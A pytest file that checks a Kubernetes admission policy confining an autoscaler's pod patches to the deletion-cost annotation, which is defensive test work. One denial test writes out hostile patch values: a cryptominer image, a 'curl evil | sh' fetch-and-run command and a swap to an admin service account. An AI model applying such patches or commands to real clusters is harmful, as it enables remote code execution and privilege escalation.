"""The autoscaler's pod patches are held to what it needs by a ValidatingAdmissionPolicy: its
Role may patch any pod of the namespace (RBAC cannot name pods created later), and a pod patch
can change a container's image or a label a Service selects.

No Kubernetes API server runs here: the rendered policy's CEL expressions are evaluated with
cel-python (standard CEL; the policy uses no Kubernetes-specific CEL library), against pods
built from the rendered Deployments and changed as the autoscaler's own patch body changes
them (captured from services/autoscaler/actuators.py with a recording stand-in for the API)."""

from __future__ import annotations

import copy

import celpy
import pytest
from chart_render import NAMESPACE, RELEASE, render, worker_deployments

from services.autoscaler.actuators import DELETION_COST, KubernetesActuator
from services.common.registry import WorkerInfo

POLICY = f"{NAMESPACE}-{RELEASE}-splitserve-autoscaler-pod-patches"
AUTOSCALER = f"system:serviceaccount:{NAMESPACE}:{RELEASE}-splitserve-autoscaler"


class _RecordingCoreApi:
    """Stands in for kubernetes.client.CoreV1Api: records the pod patches it is sent."""

    def __init__(self) -> None:
        self.bodies: list[dict] = []

    def patch_namespaced_pod(self, name, namespace, body) -> None:
        self.bodies.append(body)


def _autoscalers_patch() -> dict:
    core = _RecordingCoreApi()
    actuator = KubernetesActuator(NAMESPACE, {}, api=object(), core_api=core)
    actuator.mark_deletion_costs([WorkerInfo("pod-a", "decode", "pod-a:50051", "", "m", 16, 2048)])
    (body,) = core.bodies
    return body


def _merge(target: dict, patch: dict) -> dict:
    """A JSON merge patch (RFC 7386), what a metadata-only strategic merge patch amounts to."""
    out = copy.deepcopy(target)
    for key, value in patch.items():
        if value is None:
            out.pop(key, None)
        elif isinstance(value, dict) and isinstance(out.get(key), dict):
            out[key] = _merge(out[key], value)
        else:
            out[key] = copy.deepcopy(value)
    return out


def _pod(rendered, deployment: str) -> dict:
    template = rendered.get("Deployment", deployment)["spec"]["template"]
    metadata = copy.deepcopy(template["metadata"])
    metadata.update(name=f"{deployment}-7d9f-abcde", namespace=NAMESPACE,
                    ownerReferences=[{"apiVersion": "apps/v1", "kind": "ReplicaSet",
                                      "name": f"{deployment}-7d9f", "uid": "u1",
                                      "controller": True}])
    metadata.setdefault("annotations", {})
    return {"apiVersion": "v1", "kind": "Pod", "metadata": metadata,
            "spec": copy.deepcopy(template["spec"])}


def _true(result) -> bool:
    """cel-python answers BoolType, or an error object where the expression fails."""
    return isinstance(result, celpy.celtypes.BoolType) and bool(result)


class _Policy:
    def __init__(self, rendered) -> None:
        self.spec = rendered.get("ValidatingAdmissionPolicy", POLICY)["spec"]
        env = celpy.Environment()
        self._programs = [(v["message"], env.program(env.compile(v["expression"])))
                          for v in self.spec["validations"]]
        (condition,) = self.spec["matchConditions"]
        self._condition = env.program(env.compile(condition["expression"]))

    def applies_to(self, username: str) -> bool:
        return _true(self._condition.evaluate(
            {"request": celpy.json_to_cel({"userInfo": {"username": username}})}))

    def denials(self, old: dict, new: dict) -> list[str]:
        """Messages of the validations the update fails (one that errors fails, as in the API
        server, whose failurePolicy here is Fail)."""
        activation = {"object": celpy.json_to_cel(new), "oldObject": celpy.json_to_cel(old)}
        return [message for message, program in self._programs
                if not _true(program.evaluate(activation))]


@pytest.fixture(scope="module")
def rendered():
    return render({})


@pytest.fixture(scope="module")
def policy(rendered):
    return _Policy(rendered)


def test_the_policy_binds_to_the_autoscalers_own_service_account_and_namespace(rendered, policy):
    deployment = rendered.get("Deployment", f"{RELEASE}-splitserve-autoscaler")
    account = deployment["spec"]["template"]["spec"]["serviceAccountName"]
    assert AUTOSCALER == f"system:serviceaccount:{NAMESPACE}:{account}"
    assert policy.applies_to(AUTOSCALER)
    assert not policy.applies_to(f"system:serviceaccount:{NAMESPACE}:default")
    assert not policy.applies_to(f"system:serviceaccount:other:{account}")
    binding = rendered.get("ValidatingAdmissionPolicyBinding", POLICY)["spec"]
    assert binding["policyName"] == POLICY and binding["validationActions"] == ["Deny"]
    assert policy.spec["failurePolicy"] == "Fail"
    for scope in (policy.spec["matchConstraints"], binding["matchResources"]):
        assert scope["namespaceSelector"] == {
            "matchLabels": {"kubernetes.io/metadata.name": NAMESPACE}}
    (rule,) = policy.spec["matchConstraints"]["resourceRules"]
    assert rule["resources"] == ["pods"] and rule["operations"] == ["UPDATE"]


def test_the_autoscalers_own_patch_passes_on_every_worker_pod(rendered, policy):
    patch = _autoscalers_patch()
    assert list(patch) == ["metadata"] and list(patch["metadata"]) == ["annotations"]
    assert list(patch["metadata"]["annotations"]) == [DELETION_COST]
    for deployment in worker_deployments(rendered):
        pod = _pod(rendered, deployment)
        assert policy.denials(pod, _merge(pod, patch)) == [], deployment
        # and again over a cost set before
        marked = _merge(pod, {"metadata": {"annotations": {DELETION_COST: "7"}}})
        assert policy.denials(marked, _merge(marked, patch)) == [], deployment


@pytest.mark.parametrize("change", [
    "image", "command", "service account", "label", "new label", "other annotation",
    "removed annotation", "owner", "finalizer"])
def test_any_other_change_to_a_worker_pod_is_denied(rendered, policy, change):
    pod = _pod(rendered, f"{RELEASE}-splitserve-decode")
    pod["metadata"]["annotations"]["kept"] = "yes"
    new = _merge(pod, _autoscalers_patch())
    container = new["spec"]["containers"][0]
    if change == "image":
        container["image"] = "attacker/miner:latest"
    elif change == "command":
        container["args"] = ["sh", "-c", "curl evil | sh"]
    elif change == "service account":
        new["spec"]["serviceAccountName"] = "admin"
    elif change == "label":
        new["metadata"]["labels"]["app.kubernetes.io/component"] = "gateway"
    elif change == "new label":
        new["metadata"]["labels"]["team"] = "x"
    elif change == "other annotation":
        new["metadata"]["annotations"]["prometheus.io/scrape"] = "false"
    elif change == "removed annotation":
        del new["metadata"]["annotations"]["kept"]
    elif change == "owner":
        new["metadata"]["ownerReferences"] = []
    elif change == "finalizer":
        new["metadata"]["finalizers"] = ["example.com/hold"]
    assert policy.denials(pod, new) == [
        "the autoscaler may change only a pod's controller.kubernetes.io/pod-deletion-cost "
        "annotation"]


@pytest.mark.parametrize("whose", ["gateway", "redis", "another release's decode", "unlabelled"])
def test_pods_other_than_this_releases_workers_are_denied(rendered, policy, whose):
    if whose in ("gateway", "redis"):
        pod = _pod(rendered, f"{RELEASE}-splitserve-{whose}")
    else:
        pod = _pod(rendered, f"{RELEASE}-splitserve-decode")
        if whose == "unlabelled":
            del pod["metadata"]["labels"]
        else:
            pod["metadata"]["labels"]["app.kubernetes.io/instance"] = "other"
    denials = policy.denials(pod, _merge(pod, _autoscalers_patch()))
    assert "the autoscaler may patch only this release's worker pods" in denials


def test_without_the_autoscaler_there_is_no_policy():
    # aggregated mode runs no built-in autoscaler (the chart refuses it), nor does hpa or keda
    for values in ({"mode": "aggregated", "autoscaler": {"enabled": False}},
                   {"autoscaler": {"enabled": False}}):
        rendered = render(values)
        assert not rendered.of_kind("ValidatingAdmissionPolicy"), values
        assert not rendered.of_kind("ValidatingAdmissionPolicyBinding"), values


def test_it_can_be_left_out_where_the_installer_may_not_create_cluster_objects():
    rendered = render({"autoscaler": {"restrictPodPatches": False}})
    assert not rendered.of_kind("ValidatingAdmissionPolicy")
    assert not rendered.of_kind("ValidatingAdmissionPolicyBinding")
    assert rendered.of_kind("Role")  # the autoscaler itself is unchanged
    assert "its Role may patch any pod in llm" in rendered.notes
    assert "may patch any pod" not in render({}).notes
